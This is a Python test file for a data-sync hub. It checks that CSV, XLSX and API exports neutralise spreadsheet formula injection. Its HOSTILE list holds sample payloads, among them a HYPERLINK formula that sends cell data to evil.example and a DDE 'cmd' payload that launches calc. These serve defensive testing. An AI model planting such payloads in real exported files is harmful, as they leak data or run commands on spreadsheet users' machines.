"""Exports people open in a spreadsheet never run what a reseller synced (issue #18: values
starting with = + - @ went out unchanged in rows.csv, `synchub data export` and the catalog
CSV, and the catalog XLSX wrote them as live formulas)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

from click.testing import CliRunner
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from hub.catalog.models import Product
from hub.catalog.transfer import export_catalog, import_catalog
from hub.cli import cli
from hub.core.cells import FORMULA_START, neutralise, restore
from hub.core.db import transaction
from hub.core.runtime import init_hub, open_hub
from hub.core.settings import HubSettings
from hub.merge import merge_snapshot
from tests.hub.merge.snapbuild import build, cols

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]
AT = dt.datetime(2024, 3, 1, tzinfo=dt.timezone.utc)


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_reads_back(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    assert not cell.startswith(FORMULA_START) or cell.lstrip("+-").replace(".", "").isdigit()


def test_plain_numbers_stay_numbers() -> None:
    assert [neutralise(v) for v in ("-5", "+6281234", "-0.25", "1e3")] == [
        "-5",
        "+6281234",
        "-0.25",
        "1e3",
    ]


def _hub(tmp_path: Path, monkeypatch) -> TestClient:
    monkeypatch.setenv("SYNCHUB_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("SYNCHUB_ENVIRONMENT", "development")
    monkeypatch.delenv("SYNCHUB_DATABASE_URL", raising=False)
    settings = HubSettings()
    init_hub(settings)  # `synchub init`
    engine, factory = open_hub(settings)
    rows = [(n, name, Decimal("-1.50")) for n, name in enumerate(HOSTILE, 1)]
    columns = cols("id:integer!", "name:text", "price:decimal")
    manifest, reader = build(tmp_path, {"products": (columns, ["id"], rows)}, created_at=AT)
    with transaction(factory) as s:
        merge_snapshot(
            s, reseller_id="r1", snapshot_id=1, manifest=manifest, reader=reader, received_at=AT
        )
        for n, name in enumerate(HOSTILE, 1):
            s.add(Product(sku=f"EVIL-{n}", name=name, list_price=Decimal(1000)))
    engine.dispose()
    return factory


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))[1:]


def test_synchub_data_export_neutralises_formulas(tmp_path: Path, monkeypatch) -> None:
    _hub(tmp_path, monkeypatch)
    out = tmp_path / "p.csv"
    res = CliRunner().invoke(cli, ["data", "export", "r1", "products", "--csv", str(out)])
    assert res.exit_code == 0, res.output
    rows = _cells(out.read_text())
    assert [r[1] for r in rows] == ["'" + h for h in HOSTILE]
    assert {r[2] for r in rows} == {"-1.50"}  # a negative number is a number, kept as it is


def test_the_catalog_csv_neutralises_and_reads_back(tmp_path: Path, monkeypatch) -> None:
    factory = _hub(tmp_path, monkeypatch)
    with factory() as s:
        data = export_catalog(s, "csv")
        names = [r[2] for r in _cells(data.decode())]
        again = import_catalog(s, "catalog.csv", data, preview=True)
    assert sorted(names) == sorted("'" + h for h in HOSTILE)
    # read back as written (the import strips a name's surrounding spaces: the tab one changes)
    kept = [f"EVIL-{n}" for n, h in enumerate(HOSTILE, 1) if h == h.strip()]
    assert again.errors == [] and again.unchanged == kept


def test_the_catalog_xlsx_holds_text_not_formulas(tmp_path: Path, monkeypatch) -> None:
    factory = _hub(tmp_path, monkeypatch)
    with factory() as s:
        data = export_catalog(s, "xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(HOSTILE)
    assert {c.data_type for c in cells} == {"s"}  # text: a spreadsheet shows it, never runs it


def test_rows_csv_of_the_api_neutralises_formulas(tmp_path: Path, monkeypatch) -> None:
    from tests.hub.merge.test_read_api import _client  # the data router behind a Bearer token

    client = _client(_hub(tmp_path, monkeypatch))
    r = client.get("/api/v1/resellers/r1/datasets/products/rows.csv")
    assert r.status_code == 200
    assert [row[1] for row in _cells(r.text)] == ["'" + h for h in HOSTILE]
